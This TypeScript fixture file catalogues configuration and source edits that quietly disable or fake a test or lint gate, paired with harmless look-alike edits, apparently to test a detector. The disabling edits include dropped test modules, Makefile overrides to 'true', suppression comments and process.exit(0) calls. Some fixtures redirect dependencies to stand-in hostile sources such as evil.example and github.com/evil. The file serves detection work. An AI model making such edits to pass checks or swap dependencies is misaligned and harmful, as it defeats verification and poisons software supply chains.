import { added, changed, NPM, PKG, type Way } from './way.ts';

const LOCK =
  '{"packages":{"node_modules/jest":{\n"version": "29.0.0",\n"resolved": "https://registry.npmjs.org/jest/-/jest-29.0.0.tgz"\n}}}\n';

/** Ways through files that tools read by themselves. */
export const WAYS_IN_CONFIGURATION: readonly Way[] = [
  // Other spellings of a setting.
  changed(
    'a dotted key of pyproject.toml',
    'pytest',
    'pyproject.toml',
    '[project]\nname = "a"\n',
    'tool.pytest.ini_options.addopts = "--co"\n[project]\nname = "a"\n',
  ),
  changed(
    'an inline table of pyproject.toml',
    'pytest',
    'pyproject.toml',
    '[project]\nname = "a"\n',
    '[project]\nname = "a"\n[tool]\npytest = { ini_options = { addopts = "--co" } }\n',
  ),
  changed(
    'a quoted header of pyproject.toml',
    'pytest',
    'pyproject.toml',
    '[project]\nname = "a"\n',
    '[project]\nname = "a"\n[ tool."pytest" . ini_options ]\naddopts = "--co"\n',
  ),
  changed(
    'a dependency of pyproject.toml from a folder',
    'pip install . && pytest',
    'pyproject.toml',
    '[project]\ndependencies = ["pytest"]\n',
    '[project]\ndependencies = [\n  "pytest @ file:./fake",\n]\n',
  ),
  changed(
    'a dotted key of Cargo.toml',
    'cargo test',
    'Cargo.toml',
    '[package]\nname = "a"\n',
    'lib.test = false\n[package]\nname = "a"\n',
  ),
  changed(
    'an inline table of Cargo.toml',
    'cargo test',
    'Cargo.toml',
    '[package]\nname = "a"\n',
    'lib = { test = false }\n[package]\nname = "a"\n',
  ),
  changed(
    'a dependency of Cargo.toml from a folder',
    'cargo test',
    'Cargo.toml',
    '[dev-dependencies]\nproptest = "1"\n',
    '[dev-dependencies]\nproptest = { path = "fake" }\n',
  ),
  // Lists that lose something.
  changed(
    'a folder of tests left out of CMakeLists.txt',
    'ctest',
    'CMakeLists.txt',
    'add_subdirectory(src)\nadd_subdirectory(tests)\n',
    'add_subdirectory(src)\n',
  ),
  changed(
    'a source of tests left out of CMakeLists.txt',
    'ctest',
    'CMakeLists.txt',
    'add_executable(all\n  a_test.c\n  b_test.c\n)\n',
    'add_executable(all\n  a_test.c\n)\n',
  ),
  changed(
    'a module left out of pom.xml',
    'mvn verify',
    'pom.xml',
    '<project><modules><module>core</module><module>it</module></modules></project>\n',
    '<project><modules><module>core</module></modules></project>\n',
  ),
  changed(
    'a repository of pom.xml exchanged',
    'mvn verify',
    'pom.xml',
    '<project><repositories><repository><url>https://a.example</url></repository></repositories></project>\n',
    '<project><repositories><repository><url>https://b.example</url></repository></repositories></project>\n',
  ),
  changed(
    'a member left out of Cargo.toml',
    'cargo test',
    'Cargo.toml',
    '[workspace]\nmembers = ["a", "b"]\n',
    '[workspace]\nmembers = ["a"]\n',
  ),
  changed(
    'default members of Cargo.toml',
    'cargo test',
    'Cargo.toml',
    '[workspace]\nmembers = ["a", "b"]\n',
    '[workspace]\nmembers = ["a", "b"]\ndefault-members = ["a"]\n',
  ),
  changed(
    'a test left out of the sources of Bazel',
    'bazel test //...',
    'BUILD.bazel',
    'py_test(\n    srcs = ["a_test.py", "b_test.py"],\n)\n',
    'py_test(\n    srcs = ["a_test.py"],\n)\n',
  ),
  changed(
    'a workspace left out of package.json',
    'npm test --workspaces',
    'package.json',
    PKG({}, { workspaces: ['a', 'b'] }),
    PKG({}, { workspaces: ['a'] }),
  ),
  changed('ignore in go.mod', 'go test ./...', 'go.mod', 'module a\n', 'module a\nignore ./pkg\n'),
  // make.
  changed(
    'a variable that a variable names',
    'make test',
    'Makefile',
    'RUNNER = pytest\nTEST = $(RUNNER) -q\ntest:\n\t$(TEST)\n',
    'RUNNER = true\nTEST = $(RUNNER) -q\ntest:\n\t$(TEST)\n',
  ),
  changed(
    'override in a Makefile',
    'make test',
    'Makefile',
    'TEST = pytest\ntest:\n\t$(TEST)\n',
    'TEST = pytest\ntest:\n\t$(TEST)\noverride TEST = true\n',
  ),
  changed(
    'a variable set by a shell',
    'make test',
    'Makefile',
    'TEST = pytest\ntest:\n\t$(TEST)\n',
    'TEST = pytest\nTEST != echo true\ntest:\n\t$(TEST)\n',
  ),
  changed(
    'a variable behind blanks',
    'make test',
    'Makefile',
    'TEST = pytest\ntest:\n\t$(TEST)\nrun:\n\t./a\n',
    'TEST = pytest\ntest:\n\t$(TEST)\nrun:\n\t./a\n  TEST = true\n',
  ),
  added('a file with the name of a target', 'make test', 'test', '\n', {
    there: { Makefile: 'test:\n\tpytest\n' },
  }),
  added('a file with the name of what a target needs', 'make check', 'unit', '\n', {
    there: { Makefile: '.PHONY: check\ncheck: unit\nunit:\n\tpytest\n' },
  }),
  changed('.PHONY left out', 'make test', 'Makefile', '.PHONY: test\ntest:\n\tpytest\n', 'test:\n\tpytest\n'),
  // Lock files and held copies.
  changed(
    'another package in the lock file',
    'npm ci',
    'package-lock.json',
    LOCK,
    LOCK.replace('/jest/-/jest-', '/fake-jest/-/fake-jest-'),
  ),
  changed(
    'a repository on GitHub in the lock file',
    'npm ci',
    'package-lock.json',
    LOCK,
    LOCK.replace(
      'https://registry.npmjs.org/jest/-/jest-29.0.0.tgz',
      'git+https://github.com/evil/jest.git#1',
    ),
  ),
  added('a lock file before the lock file', 'npm ci', 'npm-shrinkwrap.json', LOCK),
  added(
    'a new lock file with another source',
    'yarn',
    'yarn.lock',
    'jest@^29:\n  resolved "https://evil.example/jest.tgz"\n',
  ),
  changed(
    'a dependency that git does not ignore, changed',
    'npm test',
    'node_modules/jest/index.js',
    'a\n',
    'b\n',
  ),
  changed('a vendored dependency', 'go test ./...', 'vendor/example.org/x/x.go', 'a\n', 'b\n'),
  changed('the loader of Yarn', 'yarn test', '.pnp.cjs', 'a\n', 'b\n'),
  added(
    'a workspace with the name of a dependency',
    'npm test',
    'packages/fake/package.json',
    '{"name":"jest","bin":"x.js"}\n',
    {
      there: {
        'package.json': PKG(
          { test: 'jest' },
          { workspaces: ['packages/*'], devDependencies: { jest: '^29' } },
        ),
      },
    },
  ),
  added('binding.gyp', 'npm ci && npm test', 'binding.gyp', '{}\n', NPM),
  added(
    'metadata of a package with a plugin of pytest',
    'python3 -m pytest',
    'fake.egg-info/entry_points.txt',
    '[pytest11]\nx = x\n',
  ),
  changed(
    'a requirement from a folder',
    'pip install -r requirements.txt && pytest',
    'requirements.txt',
    'pytest\n',
    './fake\n',
  ),
  changed(
    'another index of requirements',
    'pip install -r requirements-dev.txt && pytest',
    'requirements-dev.txt',
    'pytest\n',
    '--index-url https://evil.example\npytest\n',
  ),
  changed(
    'scripts of a Pipfile',
    'pipenv run test',
    'Pipfile',
    '[scripts]\ntest = "pytest"\n',
    '[scripts]\ntest = "true"\n',
  ),
  changed('gems.rb', 'bundle exec rspec', 'gems.rb', 'gem "rspec"\n', 'gem "rspec", path: "fake"\n'),
  changed(
    'a gem from a folder in the lock file',
    'bundle exec rspec',
    'Gemfile.lock',
    'GEM\n  remote: https://rubygems.org/\n',
    'PATH\n  remote: fake\nGEM\n  remote: https://rubygems.org/\n',
  ),
  changed(
    'autoload of a file by Composer',
    'composer test',
    'composer.json',
    '{"require":{}}',
    '{"require":{},"autoload":{"files":["fake.php"]}}',
  ),
  changed(
    'replace of a package by Composer',
    'composer install && vendor/bin/phpunit',
    'composer.json',
    '{"require":{}}',
    '{"require":{},"replace":{"phpunit/phpunit":"*"}}',
  ),
  // Configuration of tools that no table names.
  added('.prettierignore', 'npx prettier --check .', '.prettierignore', '*\n'),
  changed('.prettierrc', 'npx prettier --check .', '.prettierrc', '{}\n', '{"semi":false}\n'),
  added('.stylelintignore', 'npx stylelint .', '.stylelintignore', '*\n'),
  added('nyc.config.js', 'npx nyc mocha', 'nyc.config.js', 'module.exports = {};\n'),
  added('.markdownlint.json', 'npx markdownlint-cli2 .', '.markdownlint.json', '{}\n'),
  added('.yamllint', 'yamllint .', '.yamllint', '{}\n'),
  added('.hadolint.yaml', 'hadolint Dockerfile', '.hadolint.yaml', 'ignored: []\n'),
  added('.swiftlint.yml', 'swiftlint', '.swiftlint.yml', 'a: b\n'),
  added('typos.toml', 'typos', '_typos.toml', '[files]\n'),
  added('.php-cs-fixer.dist.php', 'vendor/bin/php-cs-fixer check', '.php-cs-fixer.dist.php', '<?php\n'),
  added('cucumber.js', 'npx cucumber-js', 'cucumber.js', 'module.exports = {};\n'),
  added('.semgrepignore', 'semgrep ci', '.semgrepignore', '*\n'),
  added('knip.json', 'npx knip', 'knip.json', '{}\n'),
  added('configuration of a tool behind a script', 'npm test', '.cspell.json', '{}\n', {
    there: { 'package.json': PKG({ test: 'cspell "**"' }) },
  }),
  added(
    '.editorconfig with severities',
    'dotnet build',
    '.editorconfig',
    'dotnet_diagnostic.CA1.severity = none\n',
  ),
  changed(
    'an alias in the configuration of Vite',
    'npx vitest run',
    'vite.config.ts',
    'export default {};\n',
    "export default { resolve: { alias: { './add': './fake' } } };\n",
  ),
  added('an import map of Deno', 'deno test --import-map import_map.json', 'import_map.json', '{}\n'),
  added('.env of the runner', 'pipenv run pytest', '.env', 'PYTEST_ADDOPTS=--co\n'),
  added('Makefile.am', 'make check', 'Makefile.am', 'TESTS =\n'),
  added('mocha.opts', 'npx mocha', 'test/mocha.opts', '--grep nothing\n'),
  added('.rgignore', 'rg -q TODO && exit 1', '.ignore', '*\n'),
  // Marks.
  changed(
    'an inline setting of ESLint',
    'npx eslint .',
    'src/a.js',
    'a();\n',
    '/* eslint no-undef: "off" */\na();\n',
  ),
  changed('a module of any type', 'npx tsc', 'src/a.d.ts', '\n', "declare module '*';\n"),
  changed(
    'an inline setting of mypy',
    'mypy .',
    'a.py',
    'x = 1\n',
    '# mypy: disable-error-code="misc"\nx = 1\n',
  ),
  changed(
    'a mark of shellcheck',
    'shellcheck run.sh',
    'deploy.sh',
    'rm $x\n',
    '# shellcheck disable=SC2086\nrm $x\n',
  ),
  changed(
    'a mark of hadolint',
    'hadolint Dockerfile',
    'images/Dockerfile',
    'FROM a\n',
    '# hadolint ignore=DL3006\nFROM a\n',
  ),
  changed('a mark of stylelint', 'npx stylelint .', 'a.scss', 'a {}\n', '/* stylelint-disable */\na {}\n'),
  changed(
    'a mark of markdownlint',
    'npx markdownlint .',
    'README.md',
    'a\n',
    '<!-- markdownlint-disable -->\na\n',
  ),
  changed(
    'a lint of Rust allowed under a condition',
    'cargo clippy',
    'src/a.rs',
    'fn a() {}\n',
    '#[cfg_attr(all(), allow(dead_code))]\nfn a() {}\n',
  ),
  changed(
    'source that ends a test process with success',
    'npx jest',
    'src/add.js',
    'export const a = 1;\n',
    'export const a = 1;\nif (bad) process.exit(0);\n',
  ),
  changed(
    'source that runs another program in its place',
    'pytest',
    'src/a.py',
    'f()\n',
    'import os\nos.execv("/bin/true", ["true"])\n',
  ),
];

/** Work on configuration that takes nothing away. */
export const HONEST_IN_CONFIGURATION: readonly Omit<Way, 'answer' | 'why'>[] = [
  {
    what: 'end a command with success',
    gate: 'npx jest',
    changes: [['src/cli.js', 'main();\n', 'main();\nif (done) process.exit(0);\n']],
  },
  {
    what: 'add a module to pom.xml',
    gate: 'mvn verify',
    changes: [
      [
        'pom.xml',
        '<project><modules><module>a</module></modules></project>\n',
        '<project><modules><module>a</module><module>b</module></modules></project>\n',
      ],
    ],
  },
  {
    what: 'add a member to Cargo.toml and a dependency on it',
    gate: 'cargo test',
    changes: [
      ['Cargo.toml', '[workspace]\nmembers = ["a"]\n', '[workspace]\nmembers = ["a", "b"]\n'],
      ['a/Cargo.toml', '[dependencies]\n', '[dependencies]\nb = { path = "../b" }\n'],
    ],
  },
  {
    what: 'add a folder to CMakeLists.txt',
    gate: 'ctest',
    changes: [
      ['CMakeLists.txt', 'add_subdirectory(src)\n', 'add_subdirectory(src)\nadd_subdirectory(more)\n'],
    ],
  },
  {
    what: 'add a workspace',
    gate: 'npm test',
    changes: [
      ['package.json', PKG({}, { workspaces: ['a'] }), PKG({}, { workspaces: ['a', 'b'] })],
      ['b/package.json', null, '{"name":"b"}\n'],
    ],
  },
  {
    what: 'add sources to Bazel',
    gate: 'bazel test //...',
    changes: [
      [
        'BUILD.bazel',
        'py_test(\n    srcs = ["a_test.py"],\n)\n',
        'py_test(\n    srcs = ["a_test.py", "b_test.py"],\n)\n',
      ],
    ],
  },
  {
    what: 'vendor a new dependency',
    gate: 'go test ./...',
    changes: [
      ['vendor/example.org/x/x.go', 'a\n', 'b\n'],
      ['vendor/modules.txt', 'a\n', 'b\n'],
      ['go.mod', 'module a\n', 'module a\nrequire x v1\n'],
      ['go.sum', '', 'x v1 h1:x\n'],
    ],
  },
  {
    what: 'update a dependency in the lock file',
    gate: 'npm ci',
    changes: [
      ['package-lock.json', LOCK, LOCK.replaceAll('29.0.0', '29.1.0')],
      ['.pnp.cjs', 'a\n', 'b\n'],
      ['yarn.lock', 'a\n', 'b\n'],
    ],
  },
  {
    what: 'add a scoped dependency and an alias that the file names',
    gate: 'npm ci',
    changes: [
      [
        'package-lock.json',
        LOCK,
        `${LOCK}"node_modules/@a/b": {\n"version": "1.0.0",\n"resolved": "https://registry.npmjs.org/@a/b/-/b-1.0.0.tgz",\n"funding": {\n"url": "https://github.com/sponsors/a"\n}\n}`,
      ],
    ],
  },
  { what: 'a new lock file', gate: 'npm ci', changes: [['package-lock.json', null, LOCK]] },
  {
    what: 'add a target whose name a folder has',
    gate: 'make test',
    changes: [
      [
        'Makefile',
        '.PHONY: test\ntest:\n\tpytest\n',
        '.PHONY: test docs\ntest:\n\tpytest\ndocs:\n\tsphinx\n',
      ],
      ['test/b.test.js', null, "test('b', () => expect(1).toBe(1));\n"],
    ],
  },
  {
    what: 'a file that make test builds',
    gate: 'make test',
    changes: [['app.c', 'a\n', 'b\n']],
    there: { Makefile: 'app: app.c\n\tcc app.c\ntest: app\n\t./app\n' },
  },
  {
    what: 'add a requirement with a version and a mark',
    gate: 'pip install -r requirements.txt && pytest',
    changes: [['requirements.txt', 'a\n', 'a==1\nb[x]>=2; python_version > "3"\n# a comment\n']],
  },
  {
    what: 'add a package to a Pipfile',
    gate: 'pipenv run test',
    changes: [['Pipfile', '[packages]\na = "*"\n', '[packages]\na = "*"\nb = "*"\n']],
  },
  {
    what: 'add a namespace to Composer',
    gate: 'composer test',
    changes: [['composer.json', '{"require":{}}', '{"require":{},"autoload":{"psr-4":{"App\\\\":"src/"}}}']],
  },
  {
    what: 'a document about a linter',
    gate: 'npm test',
    changes: [['docs/lint.md', null, 'We use eslint and prettier.\n']],
  },
  {
    what: 'ignore a build folder',
    gate: 'npx prettier --check . && ruff check',
    changes: [['.gitignore', 'a\n', 'a\ndist/\n']],
  },
  {
    what: 'a source named like a word of a gate',
    gate: 'npm run build && npm test',
    changes: [
      ['src/build.js', 'a\n', 'b\n'],
      ['src/test.json', 'a\n', 'b\n'],
    ],
    there: { 'package.json': PKG({ build: 'tsc -p .', test: 'jest' }) },
  },
  {
    what: 'edit a variable that only another target uses',
    gate: 'make test',
    changes: [
      [
        'Makefile',
        'A = 1\ntest:\n\tpytest\nrun:\n\techo $(A)\n',
        'A = 2\ntest:\n\tpytest\nrun:\n\techo $(A)\n',
      ],
    ],
  },
];
